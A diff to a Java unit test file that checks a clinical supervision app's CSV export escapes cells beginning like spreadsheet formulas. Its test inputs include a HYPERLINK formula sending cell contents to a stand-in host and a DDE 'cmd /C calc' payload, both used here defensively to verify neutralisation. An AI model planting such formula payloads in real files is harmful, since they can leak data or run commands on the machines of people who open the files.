@@ -12,6 +12,8 @@ import org.casenotes.supervision.api.meeting.MeetingFormat;
 import org.casenotes.supervision.api.meeting.Modality;
 import org.casenotes.supervision.core.testing.TestDatabases;
 import org.junit.jupiter.api.Test;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.ValueSource;
 
 class CsvTest {
 
@@ -20,14 +22,45 @@ class CsvTest {
         assertThat(new Csv().row("meeting", "2026-11-02", "", null).text()).isEqualTo("meeting,2026-11-02,,\r\n");
     }
 
+    private static String field(String value) {
+        String text = new Csv().row(value).text();
+        return text.substring(0, text.length() - 2);
+    }
+
+    @ParameterizedTest
+    @ValueSource(strings = {"=", "+", "-", "@", "\t", "\r"})
+    void aCellThatBeginsLikeAFormulaIsWrittenAsText(String first) {
+        String value = first + "HYPERLINK(\"http://x.example/?\"&A1,\"open\")";
+        List<List<String>> rows = parse(new Csv().row("a", value).text());
+
+        assertThat(rows.get(0).get(1)).isEqualTo("'" + value);
+        assertThat(rows.get(0).get(0)).isEqualTo("a");
+    }
+
+    @Test
+    void theHoursExportNeutralisesNamesThatBeginLikeFormulas() {
+        MeetingClinic clinic = new MeetingClinic(TestDatabases.h2());
+        clinic.person(MeetingClinic.ORG, "sup-1", "@SUM(1+1)*cmd|' /C calc'!A0", Role.SUPERVISOR);
+        clinic.person(MeetingClinic.ORG, "clin-1", "=1+2", Role.CLINICIAN);
+        clinic.held(MeetingFormat.INDIVIDUAL, Modality.IN_PERSON, "2026-11-02T09:00", 60, "clin-1");
+
+        List<List<String>> rows = parse(clinic.meetings.hoursCsv(ADMIN, "clin-1", LocalDate.of(2026, 11, 1),
+                LocalDate.of(2026, 11, 30), ZONE));
+
+        assertThat(rows.get(1).get(5)).isEqualTo("'=1+2");
+        assertThat(rows.get(1).get(7)).isEqualTo("'@SUM(1+1)*cmd|' /C calc'!A0");
+        assertThat(rows).allSatisfy(row -> assertThat(row).noneMatch(cell -> !cell.isEmpty()
+                && Csv.FORMULA_STARTS.indexOf(cell.charAt(0)) >= 0));
+    }
+
     @Test
     void fieldsWithCommasQuotesOrLineBreaksAreQuotedWithTheirQuotesDoubled() {
-        assertThat(Csv.field("García-López, María José")).isEqualTo("\"García-López, María José\"");
-        assertThat(Csv.field("Dr. \"Rae\" Okafor")).isEqualTo("\"Dr. \"\"Rae\"\" Okafor\"");
-        assertThat(Csv.field("line one\nline two")).isEqualTo("\"line one\nline two\"");
-        assertThat(Csv.field("line one\r\nline two")).isEqualTo("\"line one\r\nline two\"");
-        assertThat(Csv.field("carriage\rreturn")).isEqualTo("\"carriage\rreturn\"");
-        assertThat(Csv.field("no ' special ; here")).isEqualTo("no ' special ; here");
+        assertThat(field("García-López, María José")).isEqualTo("\"García-López, María José\"");
+        assertThat(field("Dr. \"Rae\" Okafor")).isEqualTo("\"Dr. \"\"Rae\"\" Okafor\"");
+        assertThat(field("line one\nline two")).isEqualTo("\"line one\nline two\"");
+        assertThat(field("line one\r\nline two")).isEqualTo("\"line one\r\nline two\"");
+        assertThat(field("carriage\rreturn")).isEqualTo("\"carriage\rreturn\"");
+        assertThat(field("no ' special ; here")).isEqualTo("no ' special ; here");
     }
 
     @Test
